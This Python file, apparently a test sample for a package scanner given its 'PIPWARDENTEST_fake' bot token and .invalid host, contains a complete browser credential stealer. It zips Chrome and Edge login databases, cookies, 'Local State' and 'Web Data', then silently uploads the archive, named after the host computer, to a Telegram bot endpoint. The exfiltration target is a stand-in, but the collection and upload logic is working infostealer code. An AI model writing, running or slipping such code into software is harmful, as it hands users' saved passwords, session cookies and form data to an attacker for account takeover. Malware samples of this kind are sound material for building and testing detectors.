import io
import os
import uuid
import zipfile
import urllib.request

TG = "https://api.telegram.example.invalid/bot7000000000:PIPWARDENTEST_fake/sendDocument"
CHAT = "-1009999999999"


def _browsers():
    la = os.getenv("LOCALAPPDATA", "")
    return {
        "chrome": os.path.join(la, "Google", "Chrome", "User Data"),
        "edge": os.path.join(la, "Microsoft", "Edge", "User Data"),
    }


def snapshot():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, root in _browsers().items():
            for rel in ("Local State", "Default/Login Data", "Default/Network/Cookies", "Default/Web Data"):
                p = os.path.join(root, *rel.split("/"))
                if os.path.isfile(p):
                    try:
                        z.writestr(name + "/" + rel, open(p, "rb").read())
                    except OSError:
                        pass
    if buf.tell() < 100:
        return
    b = uuid.uuid4().hex
    body = (
        "--%s\r\nContent-Disposition: form-data; name=\"chat_id\"\r\n\r\n%s\r\n"
        "--%s\r\nContent-Disposition: form-data; name=\"document\"; filename=\"%s.zip\"\r\n"
        "Content-Type: application/zip\r\n\r\n" % (b, CHAT, b, os.getenv("COMPUTERNAME", "pc"))
    ).encode() + buf.getvalue() + ("\r\n--%s--\r\n" % b).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(TG, data=body, headers={"Content-Type": "multipart/form-data; boundary=" + b}), timeout=20)
    except Exception:
        pass
